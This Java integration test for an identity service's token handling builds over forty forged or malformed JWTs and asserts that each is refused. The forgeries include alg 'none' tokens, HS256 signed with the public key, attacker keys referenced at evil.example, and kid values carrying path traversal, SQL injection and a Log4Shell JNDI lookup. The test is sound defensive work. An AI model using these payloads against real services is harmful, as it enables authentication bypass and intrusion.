package io.safekeep.identity.token;

import static io.restassured.RestAssured.given;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.describedAs;
import static org.hamcrest.Matchers.equalTo;

import com.nimbusds.jose.JOSEObjectType;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.JWSSigner;
import com.nimbusds.jose.crypto.ECDSASigner;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jose.crypto.RSASSASigner;
import com.nimbusds.jose.jwk.Curve;
import com.nimbusds.jose.jwk.ECKey;
import com.nimbusds.jose.jwk.JWKSet;
import com.nimbusds.jose.jwk.gen.ECKeyGenerator;
import com.nimbusds.jose.jwk.gen.RSAKeyGenerator;
import com.nimbusds.jwt.JWTClaimsSet;
import com.nimbusds.jwt.SignedJWT;
import io.quarkus.test.common.ResourceArg;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.safekeep.identity.IdentitySecrets;
import io.safekeep.identity.Operator;
import io.safekeep.identity.key.SigningKeys;
import io.safekeep.testing.quarkus.ServiceServers;
import jakarta.inject.Inject;
import java.net.URI;
import java.time.Instant;
import java.util.Base64;
import java.util.Date;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Set;
import java.util.function.UnaryOperator;
import org.junit.jupiter.api.Test;

/// Tokens that are almost ours (RFC 8725). Those that only we could have signed are signed with our
/// own key here.
@QuarkusTest
@WithTestResource(IdentitySecrets.class)
@WithTestResource(
    value = ServiceServers.class,
    initArgs = @ResourceArg(name = "database", value = "identity"))
class ForgedTokensIT {

  private static final JOSEObjectType ACCESS_TOKEN = new JOSEObjectType("at+jwt");

  @Inject SigningKeys signingKeys;

  private final Map<String, String> tokens = new LinkedHashMap<>();

  @Test
  void tokenThatIsAlmostOursIsRefused() throws Exception {
    // Given
    var real = SignedJWT.parse(Operator.token());
    var claims = real.getJWTClaimsSet();
    var keyId = real.getHeader().getKeyID();
    var ownKey = JWKSet.parse(given().get("/jwks").asString()).getKeyByKeyId(keyId).toECKey();
    unsigned(claims);
    signedWithWhatEverybodyKnows(claims, keyId, ownKey);
    signedBySomebodyElse(claims, keyId);
    keyFromElsewhere(claims);
    ofAnotherKind(claims, keyId);
    withOtherClaims(claims, keyId);
    mangled(real.serialize());

    // Then
    Operator.as(signed(header(keyId).build(), claims, signingKeys.signer().jws()))
        .get("/v1/roles")
        .then()
        .statusCode(200);
    assertThat(tokens).hasSizeGreaterThan(40);
    tokens.forEach((what, token) ->
        given()
            .header("Authorization", "Bearer " + token)
            .get("/v1/roles")
            .then()
            .statusCode(describedAs(what, equalTo(401)))
            .body("type", equalTo("/problems/unauthenticated")));
  }

  @Test
  void tokenThatIsTooLongIsNoFault() {
    var answer = given().header("Authorization", "Bearer " + "a".repeat(60_000)).get("/v1/roles");

    assertThat(answer.statusCode()).isBetween(400, 499);
  }

  private void unsigned(JWTClaimsSet claims) {
    for (var algorithm : new String[] {"none", "None", "NONE", "nOnE", ""}) {
      for (var type : new String[] {"at+jwt", "JWT"}) {
        var header = "{\"alg\":\"%s\",\"typ\":\"%s\"}".formatted(algorithm, type);
        var text = encoded(header) + "." + encoded(claims.toString()) + ".";
        tokens.put("alg " + algorithm + ", typ " + type, text);
        tokens.put("alg " + algorithm + ", typ " + type + ", with a signature", text + "AAAA");
      }
    }
  }

  private void signedWithWhatEverybodyKnows(JWTClaimsSet claims, String keyId, ECKey key)
      throws Exception {
    var encodings =
        Map.of(
            "DER", key.toECPublicKey().getEncoded(),
            "JWK", key.toPublicJWK().toJSONString().getBytes(UTF_8),
            "PEM",
                ("-----BEGIN PUBLIC KEY-----\n"
                        + Base64.getMimeEncoder(64, new byte[] {'\n'})
                            .encodeToString(key.toECPublicKey().getEncoded())
                        + "\n-----END PUBLIC KEY-----\n")
                    .getBytes(UTF_8));
    for (var encoding : encodings.entrySet()) {
      tokens.put(
          "HS256 with the public key as " + encoding.getKey(),
          signed(
              new JWSHeader.Builder(JWSAlgorithm.HS256).type(ACCESS_TOKEN).keyID(keyId).build(),
              claims,
              new MACSigner(encoding.getValue())));
    }
    tokens.put(
        "HS256 with nothing",
        signed(
            new JWSHeader.Builder(JWSAlgorithm.HS256).type(ACCESS_TOKEN).keyID(keyId).build(),
            claims,
            new MACSigner(new byte[32])));
  }

  private void signedBySomebodyElse(JWTClaimsSet claims, String keyId) throws Exception {
    var elliptic = new ECKeyGenerator(Curve.P_256).keyID(keyId).generate();
    var larger = new ECKeyGenerator(Curve.P_384).keyID(keyId).generate();
    var rsa = new RSAKeyGenerator(2048).keyID(keyId).generate();
    tokens.put(
        "another key of the same name",
        signed(header(keyId).build(), claims, new ECDSASigner(elliptic)));
    tokens.put(
        "the key in the header",
        signed(
            header(keyId).jwk(elliptic.toPublicJWK()).build(), claims, new ECDSASigner(elliptic)));
    tokens.put(
        "the key at an address",
        signed(
            header(keyId).jwkURL(URI.create("https://evil.example/jwks")).build(),
            claims,
            new ECDSASigner(elliptic)));
    tokens.put(
        "the certificate at an address",
        signed(
            header(keyId).x509CertURL(URI.create("file:///etc/passwd")).build(),
            claims,
            new ECDSASigner(elliptic)));
    tokens.put(
        "ES384",
        signed(
            new JWSHeader.Builder(JWSAlgorithm.ES384).type(ACCESS_TOKEN).keyID(keyId).build(),
            claims,
            new ECDSASigner(larger)));
    tokens.put(
        "RS256",
        signed(
            new JWSHeader.Builder(JWSAlgorithm.RS256).type(ACCESS_TOKEN).keyID(keyId).build(),
            claims,
            new RSASSASigner(rsa)));
  }

  private void keyFromElsewhere(JWTClaimsSet claims) throws Exception {
    for (var name :
        new String[] {
          "",
          " ",
          "../../../../dev/null",
          "/proc/self/environ",
          "' or '1'='1",
          "\u0000",
          "x".repeat(3000),
          "%00",
          "${jndi:ldap://evil.example}"
        }) {
      tokens.put("kid " + name, signed(header(name).build(), claims, signingKeys.signer().jws()));
    }
    tokens.put(
        "no kid",
        signed(
            new JWSHeader.Builder(JWSAlgorithm.ES256).type(ACCESS_TOKEN).build(),
            claims,
            signingKeys.signer().jws()));
  }

  private void ofAnotherKind(JWTClaimsSet claims, String keyId) throws Exception {
    for (var type : new String[] {"JWT", "logout+jwt", "dpop+jwt", "secevent+jwt", ""}) {
      tokens.put(
          "typ " + type,
          signed(
              header(keyId).type(new JOSEObjectType(type)).build(),
              claims,
              signingKeys.signer().jws()));
    }
    tokens.put(
        "unknown critical header",
        signed(
            header(keyId)
                .criticalParams(Set.of("exp"))
                .customParam("exp", Instant.now().getEpochSecond())
                .build(),
            claims,
            signingKeys.signer().jws()));
    tokens.put("a refresh token", "rft_" + "a".repeat(43));
    tokens.put(
        "an API key",
        "skk_7N42dgm5tFLK9N8MT7fHC7_abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQ_0r7fPW");
  }

  private void withOtherClaims(JWTClaimsSet claims, String keyId) throws Exception {
    var now = Instant.now();
    var changes =
        Map.<String, UnaryOperator<JWTClaimsSet.Builder>>ofEntries(
            Map.entry("aud of a portal", with -> with.audience("https://portal.example")),
            Map.entry("no aud", with -> with.audience((String) null)),
            Map.entry("aud of a client", with -> with.audience("test-operator")),
            Map.entry("iss of somebody else", with -> with.issuer("https://evil.example")),
            Map.entry("iss with a slash", with -> with.issuer(Operator.issuer() + "/")),
            Map.entry("no iss", with -> with.issuer(null)),
            Map.entry("no exp", with -> with.expirationTime(null)),
            Map.entry(
                "expired a second ago",
                with -> with.expirationTime(Date.from(now.minusSeconds(1)))),
            Map.entry("expired in 1970", with -> with.expirationTime(new Date(0))),
            Map.entry(
                "not before an hour from now",
                with -> with.notBeforeTime(Date.from(now.plusSeconds(3600)))),
            Map.entry(
                "bound to a key",
                with -> with.claim("cnf", Map.of("jkt", "0ZcOCORZNYy-DWpqq30jZ"))));
    for (var change : changes.entrySet()) {
      tokens.put(
          change.getKey(),
          signed(
              header(keyId).build(),
              change.getValue().apply(new JWTClaimsSet.Builder(claims)).build(),
              signingKeys.signer().jws()));
    }
  }

  private void mangled(String real) {
    var parts = real.split("\\.");
    tokens.put("two parts", parts[0] + "." + parts[1]);
    tokens.put("four parts", real + "." + parts[2]);
    tokens.put("five parts", real + "." + parts[1] + "." + parts[2]);
    tokens.put("no signature", parts[0] + "." + parts[1] + ".");
    tokens.put("signature of zeros", parts[0] + "." + parts[1] + "." + "A".repeat(86));
    tokens.put("short signature", parts[0] + "." + parts[1] + ".AA");
    tokens.put("header that is no JSON", encoded("hello") + "." + parts[1] + "." + parts[2]);
    tokens.put("payload that is no JSON", parts[0] + "." + encoded("hello") + "." + parts[2]);
    tokens.put("header that is a list", encoded("[]") + "." + parts[1] + "." + parts[2]);
    tokens.put(
        "header that is deep",
        encoded("{\"a\":".repeat(500) + "1" + "}".repeat(500)) + "." + parts[1] + "." + parts[2]);
    tokens.put("dots", "...");
    tokens.put("one letter", "a");
    tokens.put("with spaces", parts[0] + ". " + parts[1] + "." + parts[2]);
  }

  private static JWSHeader.Builder header(String keyId) {
    return new JWSHeader.Builder(JWSAlgorithm.ES256).type(ACCESS_TOKEN).keyID(keyId);
  }

  private static String signed(JWSHeader header, JWTClaimsSet claims, JWSSigner signer)
      throws Exception {
    var token = new SignedJWT(header, claims);
    token.sign(signer);
    return token.serialize();
  }

  private static String encoded(String text) {
    return Base64.getUrlEncoder().withoutPadding().encodeToString(text.getBytes(UTF_8));
  }
}
